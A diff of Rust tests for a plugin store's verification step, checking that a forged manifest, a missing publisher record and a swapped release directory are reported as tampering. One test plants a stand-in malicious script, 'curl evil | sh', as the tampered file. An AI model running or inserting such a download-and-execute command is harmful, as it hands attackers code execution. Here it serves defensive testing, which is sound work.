@@ -324,6 +324,107 @@ fn verify_reports_changed_missing_and_added_files() {
 }
 
 #[test]
+fn verify_reports_a_manifest_edited_to_match_edited_files_as_tampering() {
+    use trellis_client::store::{PUBLISHER_RECORD_FILE, RELEASE_ENVELOPE_FILE};
+    use trellis_schema::dsse::Envelope;
+    use trellis_schema::manifest::ReleaseManifest;
+    use trellis_schema::{Sha256, SigningKey};
+
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
+    assert!(dir.join(PUBLISHER_RECORD_FILE).is_file());
+
+    // Change a file, then rewrite the kept manifest so its size and hash match, keeping
+    // the publisher's original signatures.
+    let evil = b"#!/bin/sh\ncurl evil | sh\n";
+    std::fs::write(dir.join("bin/any/run.sh"), evil).unwrap();
+    let kept: Envelope = serde_json::from_slice(&std::fs::read(dir.join(RELEASE_ENVELOPE_FILE)).unwrap()).unwrap();
+    let mut manifest: ReleaseManifest = serde_json::from_slice(&kept.payload_bytes().unwrap()).unwrap();
+    let entry = manifest.files.iter_mut().find(|f| f.path == "bin/any/run.sh").unwrap();
+    entry.size = evil.len() as u64;
+    entry.sha256 = Sha256::of(evil);
+    let payload = serde_json::to_vec(&manifest).unwrap();
+    let mut forged = Envelope::sign(&kept.payload_type, &payload, &[&SigningKey::generate()]);
+    forged.signatures = kept.signatures.clone();
+    std::fs::write(dir.join(RELEASE_ENVELOPE_FILE), serde_json::to_vec(&forged).unwrap()).unwrap();
+    // Re-hashing alone would find nothing wrong now.
+    for file in &manifest.files {
+        let bytes = std::fs::read(dir.join(&file.path)).unwrap();
+        assert_eq!((bytes.len() as u64, Sha256::of(&bytes)), (file.size, file.sha256), "{}", file.path);
+    }
+
+    let reports = store.verify(&[id("acme.clock")]).unwrap();
+
+    assert_eq!(reports.len(), 1);
+    let problems = &reports[0].problems;
+    assert_eq!(problems.len(), 1, "{problems:?}");
+    assert_eq!(problems[0].path, RELEASE_ENVELOPE_FILE);
+    assert!(problems[0].problem.starts_with("was tampered with: its signature does not verify"), "{}", problems[0]);
+    assert!(problems[0].problem.contains("publisher acme's record"), "{}", problems[0]);
+}
+
+#[test]
+fn verify_reports_a_missing_publisher_record_instead_of_skipping_the_signature() {
+    use trellis_client::store::PUBLISHER_RECORD_FILE;
+
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
+    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
+    std::fs::remove_file(dir.join(PUBLISHER_RECORD_FILE)).unwrap();
+
+    let reports = store.verify(&[id("acme.clock")]).unwrap();
+
+    let problems: Vec<String> = reports[0].problems.iter().map(ToString::to_string).collect();
+    assert_eq!(
+        problems,
+        [format!(
+            "{PUBLISHER_RECORD_FILE}: is missing, so the release's signature cannot be re-checked; reinstall the plugin"
+        )]
+    );
+}
+
+#[test]
+fn verify_reports_a_release_directory_holding_another_releases_signed_files() {
+    let site = clock_site();
+    let data = tempfile::tempdir().unwrap();
+    let mut store = store(data.path(), &site);
+    let hooks = RecordingHooks::new();
+    let session = Session::new(&hooks, &AlwaysAgree);
+    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
+    site.publish(&[clock("1.1.0")]);
+    let mut store = {
+        drop(store);
+        common::store(data.path(), &site)
+    };
+    store.update(&[], &session).unwrap();
+    // Put the previous release's intact, validly signed files where the active one lives.
+    let old = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
+    let new = store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0"));
+    assert!(old.is_dir() && new.is_dir());
+    std::fs::remove_dir_all(&new).unwrap();
+    std::fs::rename(&old, &new).unwrap();
+
+    let reports = store.verify(&[id("acme.clock")]).unwrap();
+
+    assert_eq!(reports[0].version, v("1.1.0"));
+    let problems: Vec<String> = reports[0].problems.iter().map(ToString::to_string).collect();
+    assert_eq!(
+        problems,
+        [
+            "trellis-release.dsse: was swapped: it is signed for acme.clock 1.0.0, but this directory holds acme.clock 1.1.0"
+        ]
+    );
+}
+
+#[test]
 fn scheduled_update_applies_only_what_the_policies_allow_unattended() {
     use trellis_client::policy::{PolicyOverride, UpdateMode};
 
